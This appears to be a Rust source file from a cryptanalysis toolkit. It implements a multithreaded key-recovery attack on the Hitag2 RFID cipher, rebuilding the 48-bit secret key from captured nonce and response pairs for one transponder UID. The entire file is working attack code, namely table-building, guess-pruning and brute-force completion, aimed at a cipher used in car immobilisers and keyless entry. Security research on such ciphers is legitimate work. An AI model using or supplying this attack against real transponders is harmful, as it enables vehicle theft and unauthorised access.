// src/attacks/partial_key.rs
//
// Attack 3: recover the key from many (nR, aR) pairs for one UID.
//
// For some 34-bit register prefixes the filter output does not depend on
// the 14 high bits at all (filter_prefix_determined). Guessing the low 16
// key bits fixes the register after the UID load; enumerating the next 18
// inserted bits y over prefixes with that property yields a table keyed by
// y ^ b (b = keystream bits the insertions produce). During a real
// authentication the inserted bits are kmiddle ^ nR, so a guess of kmiddle
// can be checked against every captured pair: a table hit whose predicted
// 33rd bit contradicts the response rules the guess out, a consistent hit
// supports it. Survivors are completed by brute-forcing the top 14 bits
// against two held-out pairs.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Mutex;
use std::thread;

use log::debug;

use crate::error::{Error, Result};
use crate::hitag2::{filter_post, filter_prefix_determined, verify_key};
use crate::nonces::Trace;

struct TkEntry {
    /// y XOR the first 18 keystream bits it generates.
    y_xor_b: u32,
    /// Complement of the 33rd keystream bit, the first response bit.
    not_b32: u8,
    /// The full 34-bit prefix, for diagnostics.
    prefix: u64,
}

/// Build the candidate table for one guess of the low 16 key bits.
fn build_tk(uid: u32, klower: u64) -> Vec<TkEntry> {
    let mut tk = Vec::new();

    for y in 0..(1u32 << 18) {
        let prefix = ((y as u64) << 16) | klower;
        if !filter_prefix_determined(prefix) {
            continue;
        }

        // register after the UID load with klower in the key slot; feed y
        // in from the top 16 bits at a time, collecting output LSB-first
        let mut shiftreg = (klower << 32) | uid as u64;
        let mut b: u32 = 0;
        let mut ytmp = y;
        for _ in 0..2 {
            shiftreg |= ((ytmp & 0xffff) as u64) << 48;
            for _ in 0..16 {
                shiftreg >>= 1;
                b = (b >> 1) | (filter_post(shiftreg) << 31);
            }
            ytmp >>= 16;
        }

        // the 33rd bit only depends on the prefix, so no insertion needed
        let not_b32 = (filter_post(shiftreg >> 1) ^ 1) as u8;

        tk.push(TkEntry {
            y_xor_b: y ^ (b & 0x3ffff),
            not_b32,
            prefix,
        });
    }

    tk.sort_unstable_by_key(|e| e.y_xor_b);
    tk
}

enum Lookup {
    BadGuess,
    Inconclusive,
    Viable,
}

fn lookup(tk: &[TkEntry], z: u32, ar_bit0: u8) -> Lookup {
    let idx = tk.partition_point(|e| e.y_xor_b < z);
    match tk.get(idx) {
        Some(e) if e.y_xor_b == z => {
            if e.not_b32 != ar_bit0 {
                Lookup::BadGuess
            } else {
                Lookup::Viable
            }
        }
        _ => Lookup::Inconclusive,
    }
}

/// Brute-force the top 14 key bits over a 34-bit partial key; the full
/// key must explain both traces.
fn complete_key(uid: u32, partial: u64, t0: &Trace, t1: &Trace) -> Option<u64> {
    for kupper in 0..(1u64 << 14) {
        let key = (kupper << 34) | partial;
        if verify_key(key, uid, t0.enc_nr, t0.ar_msb()) && verify_key(key, uid, t1.enc_nr, t1.ar_msb())
        {
            return Some(key);
        }
    }
    None
}

#[derive(Debug, Clone, Copy)]
pub struct PartialKeyOptions {
    pub threads: usize,
    /// Restrict the klower scan, mainly for diagnosis and tests.
    pub klower_start: u64,
    pub klower_count: u64,
}

impl Default for PartialKeyOptions {
    fn default() -> Self {
        PartialKeyOptions {
            threads: num_cpus::get(),
            klower_start: 0,
            klower_count: 1 << 16,
        }
    }
}

fn scan_klower_range(
    uid: u32,
    traces: &[Trace],
    range: std::ops::Range<u64>,
    found: &AtomicBool,
    result: &Mutex<Option<u64>>,
) {
    for klower in range {
        if found.load(Ordering::Acquire) {
            return;
        }
        if klower % 0x400 == 0 {
            println!("trying klower = 0x{:05x}", klower);
        }

        let tk = build_tk(uid, klower);

        for kmiddle in 0..(1u64 << 18) {
            let mut supported = 0usize;
            let mut bad = false;

            for t in traces {
                let z = (kmiddle as u32) ^ (t.enc_nr & 0x3ffff);
                match lookup(&tk, z, (t.ar & 1) as u8) {
                    Lookup::BadGuess => {
                        bad = true;
                        break;
                    }
                    Lookup::Viable => supported += 1,
                    Lookup::Inconclusive => {}
                }
            }

            if bad || supported == 0 {
                continue;
            }

            let partial = (kmiddle << 16) | klower;
            debug!("possible partial key 0x{:09x}", partial);

            if let Some(key) = complete_key(uid, partial, &traces[0], &traces[1]) {
                found.store(true, Ordering::Release);
                let mut slot = result.lock().unwrap_or_else(|p| p.into_inner());
                slot.get_or_insert(key);
                return;
            }
        }
    }
}

/// Run the attack across all klower guesses. Needs at least two traces
/// for the final completion test; with too few pairs the true key can be
/// eliminated and the search reports no key.
pub fn search(uid: u32, traces: &[Trace], opts: &PartialKeyOptions) -> Result<Option<u64>> {
    if traces.len() < 2 {
        return Err(Error::usage(
            "traces",
            format!("{} pairs loaded, need at least 2", traces.len()),
        ));
    }
    if opts.threads == 0 || opts.klower_count == 0 {
        return Err(Error::usage("threads", "zero-sized search".to_string()));
    }

    let threads = opts.threads.min(opts.klower_count as usize);
    let per_thread = opts.klower_count / threads as u64;
    let found = AtomicBool::new(false);
    let result: Mutex<Option<u64>> = Mutex::new(None);

    thread::scope(|s| {
        for t in 0..threads {
            let start = opts.klower_start + t as u64 * per_thread;
            let end = if t == threads - 1 {
                opts.klower_start + opts.klower_count
            } else {
                start + per_thread
            };
            let (found, result) = (&found, &result);
            s.spawn(move || scan_klower_range(uid, traces, start..end, found, result));
        }
    });

    Ok(result.into_inner().unwrap_or_else(|p| p.into_inner()))
}
